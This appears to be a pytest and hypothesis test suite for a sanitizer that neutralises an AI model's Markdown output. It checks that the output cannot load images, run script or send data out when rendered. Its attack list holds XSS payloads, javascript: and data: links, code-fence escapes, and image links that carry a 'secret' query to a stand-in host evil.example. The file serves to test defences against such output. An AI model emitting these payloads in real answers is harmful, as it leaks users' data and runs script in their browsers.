"""A model's Markdown can't load, run or carry away anything where it is shown."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from planloom.orchestrator.answering.harmless import Harmless

OWN = "see https://good.example/page?x=1 and report.html"
KNOWN = f"{OWN} and https://source.example/list"


def harmless_markdown() -> Harmless:
    return Harmless(KNOWN.__contains__, OWN.__contains__)


def shown(text: str) -> str:
    harmless = harmless_markdown()
    return harmless.feed(text) + harmless.end()


def rendered(text: str) -> str:
    """The page that a careless program makes of a text, without what it shows as code."""
    page = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    return re.sub(r"<(code|pre)\b.*?</\1>", "", str(page), flags=re.DOTALL).lower()


LINKS = ("http://evil", '"//evil', "www.evil", "javascript:a", "data:t", 'secret"')
ATTACKS = (
    "<img src=http://evil.example/x>",
    "<script>alert(1)</script>",
    "<IMG\nsrc='http://evil.example/x'\n>",
    "a <svg/onload=alert(1)> b",
    "<!-- --><iframe src=http://evil.example></iframe>",
    "![alt](http://evil.example/?q=secret)",
    "![alt](<http://evil.example/?q=secret>)",
    "![alt]( http://evil.example/?q=secret )",
    "![alt][r]\n\n[r]: http://evil.example/?q=secret",
    "[r]\n\n[r]: http://evil.example/?q=secret\n",
    "[r]\n\n[r]:\nhttp://evil.example/?q=secret\n",
    "![alt](\nhttp://evil.example/?q=secret)",
    "[report](http://evil.example/?q=secret)",
    '[report](http://evil.example/?q=secret "title")',
    "[report](//evil.example/?q=secret)",
    "[report](javascript:alert(1))",
    "[report](java&#115;cript:alert(1))",
    "[report](\njavascript:alert(1))",
    "[report](data:text/html;base64,PHNjcmlwdD4=)",
    "<http://evil.example/?q=secret>",
    "<javascript:alert(1)>",
    "go to http://evil.example/?q=secret now",
    "go to www.evil.example/?q=secret now",
    "` <img src=http://evil.example/x>",
    "a ` b\nc ` <img src=http://evil.example/x> `",
    "\\` <img src=http://evil.example/x> `",
    "``` a\n```\n<img src=http://evil.example/x>",
    "- item\n  ```\n<img src=http://evil.example/x>",
    "> ```\n<img src=http://evil.example/x>",
    "~~~\ncode\n~~~\n<img src=http://evil.example/x>",
    "```\ncode\n````\n<img src=http://evil.example/x>",
    "# heading <img src=http://evil.example/x>",
    "| a |\n|---|\n| <img src=http://evil.example/x> |",
    "[a](https://good.example/page?x=1&q=secret)",
    "https://good.example/page?x=1&q=secret",
    "[![x](http://evil.example/?q=secret)](http://evil.example)",
    "![x](https://good.example/page?x=1)",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_loads_runs_or_leads_where_nobody_pointed(attack: str) -> None:
    for text in (attack, f"Fine.\n\n{attack}\n\nThe end."):
        page = rendered(shown(text))
        for live in ("<img", "<script", "<svg", "<iframe", "<!--", *LINKS):
            assert live not in page, (shown(text), page)


@pytest.mark.parametrize(
    "text",
    [
        "There are **3** birds [count], see [the page](https://good.example/page?x=1).",
        "https://good.example/page is long.",
        "Open [the report](report.html) or [above](#top).",
        "`<div>` and ``a ` <b>`` are tags; a < b and c > d; R&D; x[1](y)"[:-4],
        "```html\n<img src=x>\n```\nDone: data: 5 rows.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "- [x] done\n- [ ] open",
    ],
)
def test_usual_answers_stay_as_they_are(text: str) -> None:
    assert shown(text) == text


def test_words_do_not_hide_where_a_result_wants_to_lead() -> None:
    text = "[your bank](https://source.example/list), source: https://source.example/list"
    assert shown(text) == "[your bank] (https://source.example/list), source: https://source.example/list"


@given(cuts=st.lists(st.integers(0, 300), max_size=10))
def test_a_stream_gives_the_same_text_wherever_it_is_cut_between_words(cuts: list[int]) -> None:
    text = (
        "Hello `<b>` world <i> x\n```\n<img>\n```\n[a](http://evil.example) and ![b](c) https://good.example/page ok\n"
        * 2
    )
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text) and text[cut].isspace())})
    harmless = harmless_markdown()
    pieces = [harmless.feed(text[a:b]) for a, b in pairwise(edges)]
    assert "".join([*pieces, harmless.end()]) == shown(text) == harmless.text


def test_lines_without_risk_stream_word_by_word() -> None:
    harmless = harmless_markdown()
    assert [harmless.feed(word) for word in ("There ", "are ", "three ", "`birds` ", "here")] == [
        "There ", "are ", "three ", "`birds` ", "here",
    ]  # fmt: skip


@given(text=st.text("`<>![]()~ \nahref:/.&#;x\\=", max_size=80))
def test_no_text_at_all_becomes_a_live_tag(text: str) -> None:
    page = rendered(shown(text + "<img src=x>"))
    assert "<img" not in page
